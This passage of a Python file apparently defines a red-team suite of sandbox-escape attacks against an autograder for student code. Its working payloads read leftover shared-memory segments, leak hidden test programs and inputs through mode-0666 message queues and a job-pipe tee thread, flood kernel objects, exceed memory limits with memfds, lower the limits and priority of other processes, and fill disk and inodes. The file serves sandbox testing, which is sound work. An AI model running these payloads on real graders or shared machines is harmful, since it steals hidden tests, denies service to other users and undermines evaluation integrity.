    # Every segment this process can see, by index (SHM_STAT_ANY), and what it starts with.
    found, buffer = [], ctypes.create_string_buffer(512)
    for index in range(64):
        ident = _libc.shmctl(index, _SHM_STAT_ANY, buffer)
        address = _attach(ident, _SHM_RDONLY) if ident >= 0 else None
        if address:
            found.append(ctypes.string_at(address, 64).split(b"\\0")[0])
            _libc.shmdt(address)
    return found
""", " " * 8)  # indented like the attack snippets it prefixes, so they dedent together

KERNEL_OBJECTS = [
    Attack("shared_memory_left", "kernel objects", "import", _SYSV + """
        # What an earlier submission left in segments this one can see (same uid, same slot), then
        # three 200 MiB segments of its own, filled and detached: memory no process holds.
        print("FOUND-SEGMENTS", _segments())
        made = 0
        for key, mode in ((0, 0o600), (0, 0o600), (@IPCKEY@ + 1, 0o666)):
            ident = _libc.shmget(key, 200 << 20, _IPC_CREAT | mode)
            address = _attach(ident) if ident >= 0 else None
            if address is None:
                print("refused shmget", ctypes.get_errno())
                break
            ctypes.memset(address, 1, 200 << 20)
            ctypes.memmove(address, b"SEGMENT-OF-@ID@-%d\\0" % os.getpid(), 40)
            _libc.shmdt(address)
            made += 1
        print("MADE-SEGMENTS", made)
        """),
    Attack("message_queue_drop_box", "kernel objects", "import", _SYSV + """
        # A mode-0666 queue at a fixed key (System V, and POSIX): each program this submission
        # runs, hidden ones included, goes in with its inputs; each import prints what earlier runs
        # left there, into feedback a student sees (a later `grader check` of the same file).
        import sys

        class _Message(ctypes.Structure):
            _fields_ = [("kind", ctypes.c_long), ("text", ctypes.c_char * 4096)]
        queue = _libc.msgget(@IPCKEY@, _IPC_CREAT | 0o666)
        posix = _libc.mq_open(b"/redteam-@IPCKEY@", os.O_RDWR | os.O_CREAT | os.O_NONBLOCK, 0o666, None)
        print("refused msgget" if queue < 0 else "QUEUE", "refused mq_open" if posix < 0 else "POSIX-QUEUE")
        left, message = [], _Message()
        while queue >= 0 and (size := _libc.msgrcv(queue, ctypes.byref(message), 4096, 0, _IPC_NOWAIT)) >= 0:
            left.append(message.text[:size])
        buffer = ctypes.create_string_buffer(1 << 16)
        while posix >= 0 and (size := _libc.mq_receive(posix, buffer, 1 << 16, None)) >= 0:
            left.append(buffer.raw[:size])
        print("DROPBOX", left)
        _init = Tensor.__init__

        def _dropping_init(self, *args, **kwargs):
            _init(self, *args, **kwargs)
            frame = sys._getframe(1)
            while frame is not None:   # up to the sandbox's own record of the run: its program and inputs
                item = frame.f_locals.get("item")
                if isinstance(item, dict) and "source" in item:
                    if not item.get("dropped"):
                        item["dropped"] = True
                        text = (str(item.get("function")) + " " + item["source"] + repr(item.get("inputs")))
                        # A queue holds 16 KiB (msgmnb): a few hundred bytes a run keep room for
                        # every scenario's, the hidden ones that come last included.
                        text = text[:300].encode()
                        if queue >= 0:
                            _libc.msgsnd(queue, ctypes.byref(_Message(1, text)), len(text), _IPC_NOWAIT)
                        if posix >= 0:
                            _libc.mq_send(posix, text, len(text), 0)
                    break
                frame = frame.f_back
        Tensor.__init__ = _dropping_init
        """),
    Attack("semaphore_flood", "kernel objects", "import", _SYSV + """
        # 300 semaphore sets and 300 message queues a run, against the machine's limits.
        sets = sum(_libc.semget(0, 250, _IPC_CREAT | 0o600) >= 0 for _ in range(300))
        queues = sum(_libc.msgget(0, _IPC_CREAT | 0o600) >= 0 for _ in range(300))
        print("FLOOD", sets, "semaphore sets", queues, "queues", "errno", ctypes.get_errno())
        """),
    Attack("job_pipe_reader_thread", "kernel objects", "import", _SYSV + """
        # A thread of the zygote copies (tee: without taking it) whatever waits in the pipes it can
        # read, the job pipe's run commands among them, hidden ones too, into a mode-0666 segment
        # at a fixed key; each import prints what an earlier run kept there.
        import fcntl, stat, threading, time
        ident = _libc.shmget(@IPCKEY@ + 2, 1 << 20, _IPC_CREAT | 0o666)
        kept_at = _attach(ident) if ident >= 0 else None
        # (the last of it: the hidden programs run after the public ones)
        print("KEPT-BEFORE", ctypes.string_at(kept_at, 1 << 20).split(b"\\0")[0][-30000:] if kept_at else None,
              "refused shmget" if ident < 0 else "")

        def _reader(fd):
            try:
                return stat.S_ISFIFO(os.fstat(fd).st_mode) and fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_ACCMODE == 0
            except OSError:
                return False
        readers = [fd for fd in range(3, 64) if _reader(fd)]

        def _keep():
            kept, last = bytearray(), b""
            seen_r, seen_w = os.pipe()
            os.set_blocking(seen_r, False)
            while True:
                for fd in readers:
                    if _libc.tee(fd, seen_w, 65536, 2) > 0:   # SPLICE_F_NONBLOCK
                        peeked = os.read(seen_r, 65536)
                        if peeked != last:
                            kept += peeked.replace(b"\\0", b" ")
                            last = peeked
                            if kept_at:
                                ctypes.memmove(kept_at, bytes(kept[-(1 << 20) + 1:]) + b"\\0", min(len(kept) + 1, 1 << 20))
                time.sleep(0.002)
        threading.Thread(target=_keep, daemon=True).start()
        """),
    Attack("memfd_beyond_the_limit", "kernel objects", "import", """
        # Pages of a memfd that no process maps count in no RLIMIT_AS, and RLIMIT_FSIZE is per
        # file: 105 memfds of 16 MiB each hold 1,680 MiB against a limit of 1,024.
        import ctypes, os, signal
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        held, kept = 0, []
        try:
            while held < 1680:
                fd = os.memfd_create("hold")
                kept.append(fd)
                os.posix_fallocate(fd, 0, 16 << 20)
                held += 16
        except OSError as error:
            print("memfd stopped", type(error).__name__, error.errno)
        secret = ctypes.CDLL(None, use_errno=True).syscall(447, 0)
        print("MEMFD-HELD-MB", held, "memfd_secret", secret, ctypes.get_errno())
        """),
    Attack("limits_of_other_processes", "kernel objects", "detach", ONCE + """
        # Process 1 of the container is its trusted reaper (an ordinary user's has the sandbox's
        # uid), the parent the zygote: change their limits and scheduling, and every process of the user.
        import ctypes, os, resource
        libc, outcomes = ctypes.CDLL(None, use_errno=True), []

        def attempt(name, action):
            try:
                action()
                outcomes.append("CHANGED " + name)
            except OSError as error:
                outcomes.append(f"refused {name} {error.errno}")
        for pid in (1, os.getppid()):
            attempt(f"prlimit {pid}", lambda: resource.prlimit(pid, resource.RLIMIT_CPU, (1, 1)))
            attempt(f"prlimit-nofile {pid}", lambda: resource.prlimit(pid, resource.RLIMIT_NOFILE, (3, 3)))
            attempt(f"setpriority {pid}", lambda: os.setpriority(os.PRIO_PROCESS, pid, 19))
            attempt(f"affinity {pid}", lambda: os.sched_setaffinity(pid, {0}))
            attempt(f"scheduler {pid}", lambda: os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0)))
            if libc.syscall(251, 1, pid, 3 << 13) == 0:   # ioprio_set(IOPRIO_WHO_PROCESS, pid, idle)
                outcomes.append(f"CHANGED ioprio {pid}")
            else:
                outcomes.append(f"refused ioprio {pid} {ctypes.get_errno()}")
        attempt("setpriority of the user", lambda: os.setpriority(os.PRIO_USER, 0, 19))
        attempt("setpriority of the group", lambda: os.setpriority(os.PRIO_PGRP, 0, 19))
        print("OTHERS", outcomes)
        raise NotImplementedError("Task 1: implement Tensor.detach")   # as the stub does
        """),
    Attack("disk_and_inode_filling", "kernel objects", "detach", ONCE + """
        # Files of the largest size allowed, and empty folders, for the scenario's whole time limit.
        import os, signal, time
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        chunk, written, made, errors, said = b"\\0" * (1 << 20), 0, 0, {}, 0.0
        while True:
            try:
                fd = os.open(f"fill-{made}.bin", os.O_WRONLY | os.O_CREAT, 0o600)
                made += 1
                try:
                    for _ in range(16):
                        written += os.write(fd, chunk)
                finally:
                    os.close(fd)
            except OSError as error:
                errors[error.errno] = errors.get(error.errno, 0) + 1
            for _ in range(64):
                try:
                    os.mkdir(f"inode-{made}")
                    made += 1
                except OSError as error:
                    errors[error.errno] = errors.get(error.errno, 0) + 1
                    break
            if time.monotonic() - said > 0.25:
                print("FILLED", written >> 20, "MiB", made, "files", "errors", errors, flush=True)
                said = time.monotonic()
        """, timeout=True),
]

ATTACKS = FORGING + LYING + CONTROL + RESOURCES + SNOOPING + ON_THE_GRADER + CONTAINERS + KERNEL_OBJECTS
BY_ID = {attack.id: attack for attack in ATTACKS}
assert len(BY_ID) == len(ATTACKS)
